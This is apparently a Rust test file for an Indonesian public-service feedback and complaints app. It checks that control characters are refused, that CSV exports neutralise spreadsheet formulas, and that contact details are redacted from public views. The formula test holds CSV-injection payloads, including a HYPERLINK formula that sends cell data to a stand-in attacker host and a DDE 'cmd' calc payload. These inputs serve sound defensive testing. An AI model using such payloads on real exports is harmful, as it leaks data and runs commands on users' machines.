//! Text made to break things: control characters (NUL on PostgreSQL
//! included) are refused with a reason and never block what came with them;
//! formulas leave every CSV as text a spreadsheet will not run.

use crate::chain::{download, manifest_of, verified, write};
use crate::complaints::{complaint, filed, new_code};
use crate::helpers::{new_id, problem, response, spawn_app, As, Db, Sent};
use serde_json::json;
use suara::auth::Role;

crate::both!(
    a_control_character_rejects_its_response_and_not_the_batch,
    control_characters_in_complaints_and_messages_are_refused,
    no_csv_carries_a_formula_and_verify_still_proves_the_export,
    complaint_text_is_redacted_once_when_written_and_shown_redacted_everywhere,
);

async fn a_control_character_rejects_its_response_and_not_the_batch(db: Db) {
    let app = spawn_app(db).await;
    let service = app.service_id("paspor-baru-jaksel").await;
    let good = response(&new_id(), &service, json!({"U1": 4}));
    let mut nul = response(&new_id(), &service, json!({"U1": 2}));
    nul["comment"] = json!("antre lama\u{0}");
    let mut escape = response(&new_id(), &service, json!({"U1": 3}));
    escape["app_version"] = json!("1.0\u{1b}[31m");
    // Every script and a line break pass.
    let mut words = response(&new_id(), &service, json!({"U1": 3}));
    words["comment"] = json!("Petugas ramah.\r\nꦱꦸꦫꦏꦂꦠ ᮞᮥᮔ᮪ᮓ\tمرحبا 👍");
    let results = app
        .post_results(vec![good, nul.clone(), escape, words])
        .await;
    let statuses: Vec<&str> = results
        .iter()
        .map(|r| r["status"].as_str().unwrap())
        .collect();
    assert_eq!(statuses, ["accepted", "rejected", "rejected", "accepted"]);
    let reason = results[1]["reason"].as_str().unwrap();
    assert!(
        reason.contains("comment") && reason.contains("U+0000"),
        "{reason}"
    );
    assert!(results[2]["reason"]
        .as_str()
        .unwrap()
        .contains("app_version"));
    // The phone's outbox sends the same batch again: the good ones are
    // duplicates, the bad one is refused again, and nothing answers 500.
    let again = app.post_results(vec![nul]).await;
    assert_eq!(again[0]["status"], "rejected");
    assert_eq!(
        app.count("SELECT COUNT(*) FROM responses WHERE id <> $1", "")
            .await,
        2
    );
    app.finish().await;
}

async fn control_characters_in_complaints_and_messages_are_refused(db: Db) {
    let app = spawn_app(db).await;
    let sid = app.service_id("paspor-baru-jaksel").await;
    let bad = complaint(&sid, &new_code(), "Loket ditutup\u{0} tanpa pemberitahuan");
    let good_code = new_code();
    let good = complaint(&sid, &good_code, "Loket ditutup tanpa pemberitahuan");
    let r = app
        .post("/api/v1/complaints", As::Nobody)
        .json(&json!({ "complaints": [bad, good] }))
        .sent()
        .await;
    assert_eq!(r.status(), 200);
    let results: serde_json::Value = r.json().await.unwrap();
    assert_eq!(results["results"][0]["status"], "rejected");
    assert!(results["results"][0]["reason"]
        .as_str()
        .unwrap()
        .contains("control character"));
    assert_eq!(results["results"][1]["status"], "accepted");

    let code = filed(
        &app,
        "paspor-baru-jaksel",
        "Antrean tidak tertib sejak pagi",
    )
    .await;
    let r = crate::complaints::say(&app, &code, json!({"text": "tambahan\u{7}"})).await;
    problem(r, 400).await;
    let head = app.token(Role::UnitHead, &["kanim-jakarta-selatan"]).await;
    let r = app
        .post(
            &format!("/api/v1/complaints/{code}/transitions"),
            As::Token(&head),
        )
        .json(&json!({"to": "perlu_dilengkapi", "note": "lengkapi\u{0}"}))
        .sent()
        .await;
    problem(r, 400).await;
    let long = "x".repeat(4001);
    let r = app
        .post(
            &format!("/api/v1/complaints/{code}/transitions"),
            As::Token(&head),
        )
        .json(&json!({"to": "perlu_dilengkapi", "note": long}))
        .sent()
        .await;
    problem(r, 400).await;
    app.finish().await;
}

/// Formulas typed into a comment, a complaint and a sign-in's email come out
/// of the responses, complaints and audit CSVs as text; the responses' file
/// still verifies whole with its manifest.
async fn no_csv_carries_a_formula_and_verify_still_proves_the_export(db: Db) {
    let app = spawn_app(db).await;
    let service = app.service_id("paspor-baru-jaksel").await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
        "+62 812 3456 7890",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=already quoted",
    ];
    let batch = formulas
        .iter()
        .map(|f| {
            let mut r = response(&new_id(), &service, json!({"U1": 4}));
            r["comment"] = json!(f);
            r
        })
        .collect();
    let results = app.post_results(batch).await;
    assert!(
        results.iter().all(|r| r["status"] == "accepted"),
        "{results:?}"
    );
    filed(
        &app,
        "paspor-baru-jaksel",
        "=1+2 antrean tidak jelas sejak pagi",
    )
    .await;
    app.post_form(
        "/login",
        As::Nobody,
        &[
            ("email", "=1+2@example.org"),
            ("password", "wrong password"),
        ],
    )
    .await;

    let token = app.token(Role::Admin, &[]).await;
    let (headers, csv) = download(&app, &token, "").await;
    let complaints = app
        .http
        .get(app.url("/api/v1/complaints/export"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let audit = app
        .http
        .get(app.url("/api/v1/audit?format=csv"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    for (name, file) in [
        ("responses", &csv),
        ("complaints", &complaints),
        ("audit", &audit),
    ] {
        let mut reader = csv::ReaderBuilder::new().from_reader(file.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                let bare = cell.trim_start_matches('\'');
                let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                let plain_number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E']);
                assert!(
                    !runs || plain_number,
                    "{name}: a spreadsheet would run {cell:?}"
                );
                if bare.len() < cell.len() {
                    assert!(cell.starts_with('\''), "{cell}");
                }
            }
        }
        assert!(cells > 0, "{name} is empty");
    }
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(csv.contains("''=already quoted"), "{csv}");
    assert!(complaints.contains("'=1+2 antrean"), "{complaints}");
    assert!(audit.contains("'=1+2@example.org"), "{audit}");
    // The auditor's proof: the neutralised file still matches every hash.
    let manifest = manifest_of(&app, &token, &headers).await;
    let dir = tempfile::tempdir().unwrap();
    verified(&write(&dir, "formulas.csv", &csv), Some(&manifest));
    app.finish().await;
}

/// The contact forms the attack report found readable in the public feed
/// are gone from every public view; the public copy is written with the
/// complaint and read from there (earlier rows get theirs at start).
async fn complaint_text_is_redacted_once_when_written_and_shown_redacted_everywhere(db: Db) {
    let app = spawn_app(db).await;
    let contacts = [
        "WA081234567890",
        "NIK3201234567890001",
        "021-5551234",
        "0812 - 3456 - 7890",
        "812-3456-7890",
        "budi @ gmail.com",
        "budi(at)gmail.com",
        "budi [at] gmail [dot] com",
    ];
    let text = format!(
        "Calo di loket 3 minta Rp 200.000; hubungi {}.",
        contacts.join(", ")
    );
    let code = filed(&app, "paspor-baru-jaksel", &text).await;
    let head = app.token(Role::UnitHead, &["kanim-jakarta-selatan"]).await;
    let r = app
        .post(
            &format!("/api/v1/complaints/{code}/transitions"),
            As::Token(&head),
        )
        .json(&json!({"to": "diverifikasi", "note": "Kami hubungi di 0812 9876 5432."}))
        .sent()
        .await;
    assert_eq!(r.status(), 200);
    let stored: String = sqlx::query_scalar("SELECT public_body FROM complaints")
        .fetch_one(app.store.pool())
        .await
        .unwrap();
    let citizen = app
        .get(&format!("/api/v1/complaints/{code}"), As::Nobody)
        .await
        .text()
        .await
        .unwrap();
    let feed = app
        .get("/open311/v2/requests.json", As::Nobody)
        .await
        .text()
        .await
        .unwrap();
    for (name, shown) in [
        ("stored copy", &stored),
        ("citizen view", &citizen),
        ("Open311", &feed),
    ] {
        for c in contacts
            .iter()
            .chain(["9876", "gmail", "3456", "5551234"].iter())
        {
            assert!(!shown.contains(c), "{name} shows {c}: {shown}");
        }
        assert!(
            shown.contains("loket 3") && shown.contains("Rp 200.000"),
            "{name}: {shown}"
        );
    }
    assert!(feed.contains("[telepon]") && feed.contains("[NIK]") && feed.contains("[email]"));
    // The unit's copy is what was written.
    let original: String = sqlx::query_scalar("SELECT body FROM complaints")
        .fetch_one(app.store.pool())
        .await
        .unwrap();
    assert_eq!(original, text);

    // A row from before copies were kept gets its copy at the next start.
    sqlx::query("UPDATE complaints SET public_body = NULL")
        .execute(app.store.pool())
        .await
        .unwrap();
    sqlx::query("UPDATE complaint_events SET public_note = NULL")
        .execute(app.store.pool())
        .await
        .unwrap();
    assert!(app.store.fill_public_copies().await.unwrap() >= 2);
    let again: String = sqlx::query_scalar("SELECT public_body FROM complaints")
        .fetch_one(app.store.pool())
        .await
        .unwrap();
    assert_eq!(again, stored);
    assert_eq!(app.store.fill_public_copies().await.unwrap(), 0);
    app.finish().await;
}
